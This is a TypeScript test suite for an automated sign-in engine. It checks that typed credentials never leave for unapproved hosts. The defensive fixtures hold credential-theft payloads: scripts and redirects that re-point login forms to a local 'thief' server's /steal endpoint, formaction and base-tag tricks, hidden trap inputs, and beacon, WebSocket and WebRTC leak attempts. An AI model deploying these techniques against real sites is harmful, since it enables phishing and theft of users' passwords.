import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer } from 'node:net';
import { describe, expect, it } from 'vitest';
import { asked, closing, connect, ended } from '../run-engine';
import { acme, page, type Reply, type Site, startSite } from '../site';

const VALUES = { identifier: 'ada', password: 'correct horse' };
const FORM = (action: string, more = '') =>
  `<h1>Sign in</h1><form id="f" method="post" action="${action}"><label>Username <input name="user"></label>
   <label>Password <input type="password" name="pass"></label><button>Sign in</button></form>${more}`;

/** A site that is there, and that nobody has allowed. */
async function thief(): Promise<Site> {
  return closing(await startSite(() => page('<h1>Got it</h1>')));
}

const LOOK_ALIKE = FORM('/session');

describe('what was typed goes nowhere but to the site', () => {
  it('a form that is sent elsewhere from the beginning is not filled in', async () => {
    const other = await thief();
    const site = closing(await startSite(() => page(FORM(`${other.url}/steal`))));
    const connection = await connect(site);
    await connection.login();
    expect(ended(await connection.fill(VALUES))).toBe('FAILED domain_not_allowed NEEDS_AUTH');
    expect(other.requests).toEqual([]);
  });

  it('a form that is sent to another host from the beginning is filled in if that host is allowed, and the login goes on there', async () => {
    const elsewhere = closing(
      await startSite(({ method, body }): Reply => {
        const isRight = method === 'POST' && body.get('user') === 'ada' && body.get('pass') === VALUES.password;
        return { location: `${site.url}/back?ticket=${isRight ? 'in' : 'none'}` };
      }),
    );
    const inner = acme();
    const site = closing(
      await startSite((exchange) => {
        if (exchange.path === '/back') return { location: '/home', cookie: `sid=${exchange.query.get('ticket')}` };
        const reply = inner(exchange);
        return { ...reply, html: reply.html?.replace('/session', `http://sso.localhost:${elsewhere.port}/`) ?? '' };
      }),
    );
    const connection = await connect(site, { allow: [site.host, `sso.localhost:${elsewhere.port}`] });
    await connection.login();
    expect(ended(await connection.fill(VALUES))).toBe('SUCCESS AUTHENTICATED');
    expect(elsewhere.requests.filter(({ method }) => method === 'POST')).toHaveLength(1);
    expect(site.requests.every(({ method }) => method === 'GET')).toBe(true);
  });

  it('a form that moves between reading and filling is not filled in', async () => {
    const other = await thief();
    let isRead = false;
    const move = `<script>setInterval(async () => {
      const { status } = await fetch('/now');
      if (status !== 200 || f.action !== location.origin + '/session') return;
      f.action = '${other.url}/steal';
      fetch('/moved');
    }, 50)</script>`;
    const site = closing(
      await startSite(({ method, path }) => {
        if (path === '/now') return { status: isRead ? 200 : 204 };
        return method === 'POST' ? page('in') : page(FORM('/session', move));
      }),
    );
    const connection = await connect(site);
    await connection.login();
    isRead = true;
    await expect.poll(() => site.requests.map(({ path }) => path)).toContain('/moved');
    expect(ended(await connection.fill(VALUES))).toMatch(/^FAILED (domain_not_allowed|navigation_confused)/);
    expect(other.requests).toEqual([]);
    expect(site.requests.every(({ method }) => method === 'GET')).toBe(true);
  });

  it('a form that moves when it is sent is stopped on its way', async () => {
    const other = await thief();
    const move = `<script>document.getElementById('f').onsubmit = (e) => { e.target.action = '${other.url}/steal'; };</script>`;
    const site = closing(await startSite(() => page(FORM('/session', move))));
    const connection = await connect(site);
    await connection.login();
    expect(ended(await connection.fill(VALUES))).toBe('FAILED domain_not_allowed NEEDS_AUTH');
    expect(other.requests).toEqual([]);
  });

  it.each([302, 307, 308])('a %i that carries it elsewhere is not followed', async (status) => {
    const other = await thief();
    const site = closing(
      await startSite(
        ({ method }): Reply =>
          method === 'POST' ? { status, location: `${other.url}/steal` } : page(FORM('/session')),
      ),
    );
    const connection = await connect(site);
    await connection.login();
    expect(ended(await connection.fill(VALUES))).toBe('FAILED domain_not_allowed NEEDS_AUTH');
    expect(other.requests).toEqual([]);
  });

  it('a form that is sent into a frame or a new window elsewhere is stopped', async () => {
    const other = await thief();
    for (const target of ['sink', '_blank']) {
      const move = `<iframe name="sink"></iframe><script>document.getElementById('f').onsubmit = (e) => {
        e.target.action = '${other.url}/steal'; e.target.target = '${target}'; };</script>`;
      const site = closing(await startSite(() => page(FORM('/session', move))));
      const connection = await connect(site);
      await connection.login();
      expect(ended(await connection.fill(VALUES)), target).not.toContain('SUCCESS');
    }
    expect(other.requests).toEqual([]);
  });
});

describe('markup alone cannot send what is typed to where it was not read that it goes', () => {
  const WITH = (button: string, form = '', more = '') =>
    `<h1>Sign in</h1><form id="f" method="post" action="/session" ${form}><label>Username <input name="user"></label>
     <label>Password <input type="password" name="pass"></label><button ${button}>Sign in</button></form>${more}`;
  const CASES: readonly (readonly [string, (url: string) => string])[] = [
    ['formaction', (url) => WITH(`formaction="${url}"`)],
    [
      'formaction into a frame',
      (url) => WITH(`formaction="${url}" formtarget="fr"`, '', '<iframe name="fr"></iframe>'),
    ],
    [
      'formaction as an address, into a frame',
      (url) => WITH(`formaction="${url}" formmethod="get" formtarget="fr"`, '', '<iframe name="fr"></iframe>'),
    ],
    [
      'formaction into a frame of the other site',
      (url) => WITH(`formaction="${url}" formtarget="fr"`, '', `<iframe name="fr" src="${url}"></iframe>`),
    ],
    [
      'a button of its own inside the button',
      (url) =>
        WITH('type="button"').replace(
          'Sign in</button>',
          `<input type="submit" formaction="${url}" value="Sign in"></button>`,
        ),
    ],
    [
      'a button elsewhere that owns the form',
      (url) => WITH('hidden', '', `<button form="f" formaction="${url}">Sign in</button>`),
    ],
    ['the button that Enter presses', (url) => WITH(`formaction="${url}" style="position:absolute;opacity:0"`)],
    ['a base', (url) => `<base href="${url}">${WITH('formaction=" "')}`],
    ['a method of its own', () => WITH('formmethod="get"')],
  ];
  it.each(CASES)('by %s', async (_, form) => {
    const other = await thief();
    const site = closing(
      await startSite(({ method }) => (method === 'POST' ? page('in') : page(form(`${other.url}/steal`)))),
    );
    // Pages of the other may be opened too: what counts is where it was read that the form goes.
    const connection = await connect(site, { allow: [site.host, other.host] });
    await connection.login();
    await connection.fill(VALUES);
    const told = JSON.stringify([...other.requests, ...site.requests].map(({ query, body }) => [...query, ...body]));
    expect(told).not.toContain(VALUES.password);
  });

  it('where the site itself sends it, it still goes', async () => {
    const site = closing(
      await startSite(({ method, path }) =>
        method === 'POST'
          ? { location: `/home?${path}` }
          : page(WITH('formaction="/other" formmethod="post"', '', '<iframe name="fr"></iframe>')),
      ),
    );
    const connection = await connect(site);
    await connection.login();
    await connection.fill(VALUES);
    expect(
      site.requests.filter(({ method }) => method === 'POST').map(({ path, body }) => [path, body.get('pass')]),
    ).toEqual([['/other', VALUES.password]]);
  });
});

describe('an address of this machine is only open when it was named with its port', () => {
  it('a redirect to it is not followed', async () => {
    const other = await thief();
    const site = closing(await startSite(() => ({ location: `${other.url}/admin` })));
    const connection = await connect(site);
    expect(ended(await connection.login())).toBe('FAILED domain_not_allowed NEEDS_AUTH');
    expect(other.requests).toEqual([]);
  });

  it('pictures, scripts, frames and sockets of it are not asked for', async () => {
    const other = await thief();
    const parts = `<img src="${other.url}/a.png"><script src="${other.url}/a.js"></script><iframe src="${other.url}/f"></iframe>
      <script>fetch('${other.url}/x', { mode: 'no-cors' }); new WebSocket('ws://127.0.0.1:${other.port}/s');
      navigator.sendBeacon('${other.url}/b', 'x');</script>`;
    const inner = acme();
    const site = closing(
      await startSite((exchange) => {
        const reply = inner(exchange);
        return { ...reply, html: reply.html?.replace('</body>', `${parts}</body>`) ?? '' };
      }),
    );
    const connection = await connect(site);
    await connection.login();
    expect(ended(await connection.fill(VALUES))).toBe('SUCCESS AUTHENTICATED');
    expect(other.requests).toEqual([]);
  });
});

describe('a call between browsers', () => {
  /** Counts what comes to a port of this machine, by UDP and by TCP. */
  async function listener() {
    let count = 0;
    const tcp = createServer((socket) => {
      count += 1;
      socket.destroy();
    }).listen(0, '127.0.0.1');
    await once(tcp, 'listening');
    const { port } = tcp.address() as { port: number };
    const udp = createSocket('udp4', () => {
      count += 1;
    });
    udp.bind(port, '127.0.0.1');
    await once(udp, 'listening');
    const close = async () => {
      udp.close();
      tcp.close();
    };
    return closing({ port, count: () => count, close });
  }

  it('does not go past the proxy', async () => {
    const other = await listener();
    const at = `127.0.0.1:${other.port}`;
    const call = `<script>
      const call = new RTCPeerConnection({ iceServers: [
        { urls: 'stun:${at}' },
        { urls: ['turn:${at}', 'turn:${at}?transport=tcp'], username: 'typed', credential: 'x' } ] });
      call.onicegatheringstatechange = () => { if (call.iceGatheringState === 'complete') fetch('/gathered'); };
      call.createDataChannel('x');
      call.createOffer().then((offer) => call.setLocalDescription(offer));</script>`;
    const site = closing(await startSite(() => page(FORM('/session', call))));
    const connection = await connect(site);
    await connection.login();
    // Whichever comes first.
    const isOver = () => other.count() > 0 || site.requests.some(({ path }) => path === '/gathered');
    await expect.poll(isOver).toBe(true);
    expect(other.count()).toBe(0);
  });
});

describe('a look-alike', () => {
  it('in a frame of another site is not read', async () => {
    const other = closing(await startSite(() => page(LOOK_ALIKE)));
    const site = closing(
      await startSite(() => page(`<h1>Portal</h1><iframe width="500" height="300" src="${other.url}/"></iframe>`)),
    );
    const connection = await connect(site, { allow: [site.host, other.host] });
    expect(ended(await connection.login())).toBe('FAILED login_form_not_found NEEDS_AUTH');
    expect(other.requests.length).toBeGreaterThan(0);
  });

  it("beside the site's own form is not filled in", async () => {
    const other = closing(await startSite(() => page(LOOK_ALIKE)));
    const inner = acme();
    const site = closing(
      await startSite((exchange) => {
        const reply = inner(exchange);
        const frame = `<iframe width="500" height="300" src="${other.url}/"></iframe></body>`;
        return { ...reply, html: reply.html?.replace('</body>', frame) ?? '' };
      }),
    );
    const connection = await connect(site, { allow: [site.host, other.host] });
    expect(asked(await connection.login())).toBe('identifier password');
    expect(ended(await connection.fill(VALUES))).toBe('SUCCESS AUTHENTICATED');
    expect(other.requests.every(({ method }) => method === 'GET')).toBe(true);
  });

  it('inputs that nobody sees stay empty', async () => {
    const traps = `<input name="trap1" type="email" autocomplete="email" style="position:absolute;left:-9999px">
      <input name="trap2" type="password" autocomplete="current-password" style="opacity:0">
      <div style="height:0;overflow:hidden"><input name="trap3" autocomplete="username"></div>
      <input name="trap4" type="hidden"><input name="trap5" autocomplete="tel" style="visibility:hidden">`;
    const site = closing(
      await startSite(({ method }) =>
        method === 'POST'
          ? { location: '/home', cookie: 'sid=in' }
          : page(FORM('/session').replace('<button>', `${traps}<button>`)),
      ),
    );
    const connection = await connect(site);
    expect(asked(await connection.login())).toBe('identifier password');
    await connection.fill(VALUES);
    const sent = site.requests.find(({ method }) => method === 'POST')?.body;
    expect(sent?.get('user')).toBe('ada');
    for (const [name, value] of sent ?? []) if (name.startsWith('trap')) expect(value, name).toBe('');
  });
});
